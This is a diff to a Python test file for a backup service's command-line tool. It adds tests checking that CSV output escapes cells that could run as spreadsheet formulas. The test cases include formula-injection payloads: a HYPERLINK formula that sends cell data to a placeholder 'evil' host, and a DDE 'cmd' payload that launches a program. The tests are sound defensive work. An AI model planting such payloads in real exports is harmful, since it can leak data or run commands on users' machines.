@@ -1,6 +1,7 @@
 """What is printed, in each format; scripts rely on the keys."""
 
 import csv
+import io
 import json
 import os
 import pty
@@ -11,7 +12,11 @@ from typing import Any
 
 import pytest
 import yaml
+from attrs import frozen
+from click.testing import CliRunner
 
+from cloud_backup.commandline.invocation import Invocation
+from cloud_backup.commandline.output import print_list
 from cloud_backup_api import models
 
 from .conftest import CommandLine
@@ -93,6 +98,57 @@ def test_cells_of_csv(cloud: CommandLine) -> None:
     assert row["is_deleted"] == "false"
     assert row["last_run_time"] == ""
     assert json.loads(row["inclusions"])[0]["path"] == "C:\\backed_up_folder"
+
+
+@pytest.mark.parametrize(
+    ("name", "cell"),
+    [
+        ('=HYPERLINK("http://evil/"&A1)', '\'=HYPERLINK("http://evil/"&A1)'),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("\uff1d1+1", "'\uff1d1+1"),
+        ("=5", "'=5"),
+        ("-5", "-5"),
+        ("+4.5", "+4.5"),
+        ("a=b", "a=b"),
+        ("a\r=b", "a\r=b"),
+        ("a\n=b", "a\n=b"),
+        ("'quoted'", "'quoted'"),
+        ("", ""),
+    ],
+)
+def test_no_cell_of_csv_is_a_formula(name: str, cell: str) -> None:
+    @frozen
+    class Named:
+        name: str
+        change: int = -5
+
+    with CliRunner().isolation() as (stdout, *_):
+        print_list(in_csv(), Named, [Named(name)], ())
+        text = stdout.getvalue().decode()
+
+    [row] = csv.DictReader(io.StringIO(text, newline=""))
+    assert row == {"name": cell, "change": "-5"}
+
+
+def in_csv() -> Invocation:
+    invocation = Invocation(environ={})
+    invocation.output = "csv"
+    return invocation
+
+
+def test_names_of_the_service_are_no_formulas_in_csv(cloud: CommandLine) -> None:
+    formula = "=1+1"
+    cloud.done("configurations", "create", formula, "--agent", "MBP0", "--include", "/a")
+
+    listed = cloud.done("configurations", "list", "-o", "csv").stdout
+
+    rows = csv.DictReader(listed.splitlines())
+    assert f"'{formula}" in {row["backup_configuration_name"] for row in rows}
+    assert formula in str(cloud.json("configurations", "list"))
 
 
 def test_an_empty_list(cloud: CommandLine) -> None:
